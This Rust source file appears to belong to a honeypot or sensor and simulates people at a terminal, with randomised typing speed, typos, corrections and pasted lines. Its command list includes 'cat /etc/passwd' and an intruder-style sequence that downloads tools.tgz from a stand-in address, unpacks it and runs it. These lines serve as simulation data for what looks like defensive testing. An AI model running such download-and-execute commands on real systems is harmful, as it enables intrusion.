//! People at a keyboard, made up: each with their own pace, slips, habits, and some who paste.

use rand::{RngExt as _, rngs::StdRng};
use sensor::label::Bait;

use super::{Visit, around, one};

const TYPED: &[&str] = &[
    "ls",
    "ls -la",
    "id",
    "whoami",
    "w",
    "uname -a",
    "cat /etc/passwd",
    "cat /etc/issue",
    "ps aux",
    "cd /tmp",
    "pwd",
    "ifconfig",
    "free -m",
    "df -h",
    "history",
    "last",
    "cat /proc/cpuinfo",
    "cd ..",
    "cd /var/www/html",
    "netstat -an",
    "sudo su",
    "exit",
    "top",
    "mkdir .x",
    "wget http://192.0.2.9/tools.tgz",
    "tar xzf tools.tgz",
    "chmod +x run",
    "./run",
    "crontab -l",
    "clear",
    "cat index.html",
    "nano config.php",
    "passwd",
    "hostname",
    "uptime",
    "ping 192.0.2.1",
    "find . -name '*.conf'",
    "apt update",
];
const NEIGHBOURS: &[u8] = b"qwertyuiopasdfghjklzxcvbnm";

/// One visit.
pub fn visit(random: &mut StdRng, bait: Option<Bait>) -> Visit {
    let mut visit = Visit::new(bait);
    visit.wait(random.random_range(1.0..4.0));
    visit.terminal();
    let (pace, spread) = (random.random_range(0.08..0.35), random.random_range(0.3..0.6));
    let slips = random.random_range(0.0..0.07);
    let (corrects, completes) = (random.random_range(0.4..1.0), random.random_bool(0.4));
    // One in twelve brings their lines along and pastes most of them.
    let pastes = if random.random_ratio(1, 12) { 0.9 } else { random.random_range(0.0..0.15) };
    for _ in 0..random.random_range(2..20) {
        visit.wait(around(random, 4.0, 0.9) + 0.5);
        let line = one(random, TYPED);
        if random.random_bool(pastes) {
            visit.keys(line.as_bytes());
            visit.wait(around(random, 0.5, 0.5));
            visit.keys(b"\r");
            visit.entered(line, true);
            continue;
        }
        if random.random_ratio(1, 12) {
            // The last one again.
            visit.keys(b"\x1b[A");
            visit.wait(around(random, pace * 3.0, spread));
            visit.keys(b"\r");
            visit.entered(line, true);
            continue;
        }
        let (mut typed, mut known) = (String::new(), true);
        for (number, key) in line.bytes().enumerate() {
            visit.wait(around(random, pace, spread));
            if random.random_bool(slips) {
                let wrong = NEIGHBOURS[random.random_range(0..NEIGHBOURS.len())];
                visit.keys(&[wrong]);
                if random.random_bool(corrects) {
                    visit.wait(around(random, pace * 2.5, spread));
                    visit.keys(b"\x7f");
                    visit.wait(around(random, pace, spread));
                } else {
                    typed.push(char::from(wrong));
                    known &= number >= line.find(' ').unwrap_or(line.len());
                    continue;
                }
            }
            visit.keys(&[key]);
            typed.push(char::from(key));
            if completes && number > 5 && random.random_ratio(1, 15) {
                visit.keys(b"\t");
            }
        }
        visit.wait(around(random, pace * 2.0, spread));
        visit.keys(b"\r");
        visit.entered(&typed, known);
    }
    visit
}
